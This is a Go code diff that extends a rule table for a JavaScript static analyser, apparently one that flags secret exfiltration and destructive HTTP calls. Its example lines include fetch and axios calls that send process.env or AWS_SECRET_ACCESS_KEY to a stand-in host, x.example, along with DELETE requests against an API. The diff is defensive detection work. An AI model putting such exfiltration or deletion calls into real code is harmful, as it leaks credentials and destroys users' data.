@@ -151,10 +151,11 @@ var jsRules = [...]rule{
 	{name: "Object.entries|Object.values", ret: rNone},
 
 	// ---- values
-	{name: "require", do: aLoad, opt: "rel", ret: rModule, ex: `require("./scripts/clean") => load ./scripts/clean` + "\n" +
+	{name: "require", do: aLoad, opt: "node", ret: rModule, ex: `require("./scripts/clean") => load ./scripts/clean` + "\n" +
 		`import "./setup.js" => load ./setup.js` + "\n" +
 		`import { run } from "../lib/run.mjs"; run() => load ../lib/run.mjs` + "\n" +
-		`require("fs") !> load fs` + "\n"},
+		`require("x") => load x` + "\n" + `import { clean } from "@acme/tools/clean"; clean() => load @acme/tools/clean` + "\n" +
+		`require("fs") !> load fs` + "\n" + `require("node:child_process") !> load node:child_process` + "\n" + `import fs from "fs/promises" !> load fs/promises` + "\n"},
 	{name: "path.join|path.resolve|path.posix.join|path.posix.resolve|upath.join", ret: rJoin},
 	{name: "path.dirname", ret: rDirname},
 	{name: "path.basename", ret: rBasename},
@@ -179,10 +180,23 @@ var jsRules = [...]rule{
 	{name: "fetch", do: aFetch, ex: `fetch("https://x.example/c", { method: "POST", body: JSON.stringify(process.env) }) => send:http https://x.example/c` + "\n" +
 		`fetch("https://x.example/c", { method: "POST", body: JSON.stringify(process.env) }) => env:send` + "\n" +
 		"fetch(`https://x.example/?k=${process.env.AWS_SECRET_ACCESS_KEY}`) => var:send AWS_SECRET_ACCESS_KEY\n" +
-		`fetch("https://registry.npmjs.org/react") !> send:http https://registry.npmjs.org/react` + "\n"},
+		`fetch("https://registry.npmjs.org/react") !> send:http https://registry.npmjs.org/react` + "\n" +
+		`fetch("https://api.example.com/projects/42", { method: "DELETE" }) => destroy:http https://api.example.com/projects/42` + "\n" +
+		`await fetch(url, {method: 'delete', headers: {a: 1}}) => destroy:http {url}` + "\n" +
+		`fetch("https://api.example.com/projects/42/delete", { method: "POST" }) => destroy:http https://api.example.com/projects/42/delete` + "\n" +
+		`fetch("https://api.example.com/projects/42/delete") !> destroy:http https://api.example.com/projects/42/delete` + "\n" +
+		`fetch("https://api.example.com/search?q=delete", { method: "POST", body: "{}" }) !> destroy:http https://api.example.com/search?q=delete` + "\n"},
+	{name: "axios.delete|got.delete|ky.delete|needle.delete|superagent.delete|superagent.del|request.delete|request.del", do: aHTTPDelete, ex: `require("axios").delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`const axios = require("axios"); await axios.delete(base + "/projects/" + id) => destroy:http {base}/projects/{id}` + "\n" +
+		`const nock = require("nock"); nock("https://api.example.com").delete("/x").reply(204) !> -` + "\n" +
+		`jest.spyOn(axios, "delete").mockResolvedValue({}) !> -` + "\n"},
 	{name: "axios.post|axios.put|axios.patch|axios|got.post|ky.post|needle.post|superagent.post|request.post|navigator.sendBeacon|http.request|https.request", do: aSend, ex: `require("axios").post("https://x.example", { data: process.env }) => env:send` + "\n" +
 		`const axios = require("axios"); axios.post("https://hooks.example/x", { t: 1 }) => send:http https://hooks.example/x` + "\n" +
 		`require("https").request({ host: "x.example", method: "POST" }) => send:http x.example` + "\n" +
+		`require("axios")({ method: "delete", url: "https://api.example.com/x" }) => destroy:http https://api.example.com/x` + "\n" +
+		`require("https").request({ host: "api.example.com", path: "/projects/42", method: "DELETE" }) => destroy:http api.example.com/projects/42` + "\n" +
+		`require("axios").post("https://api.example.com/v1/repos/x/destroy") => destroy:http https://api.example.com/v1/repos/x/destroy` + "\n" +
+		`require("axios").post("https://api.example.com/docs/deleting-things", {}) !> destroy:http https://api.example.com/docs/deleting-things` + "\n" +
 		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
 	{name: "axios.get|got|got.get|http.get|https.get|axios.request", do: aFetch, ex: `require("axios").get("https://x.example/?t=" + process.env.TOKEN) => var:send TOKEN` + "\n" +
 		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
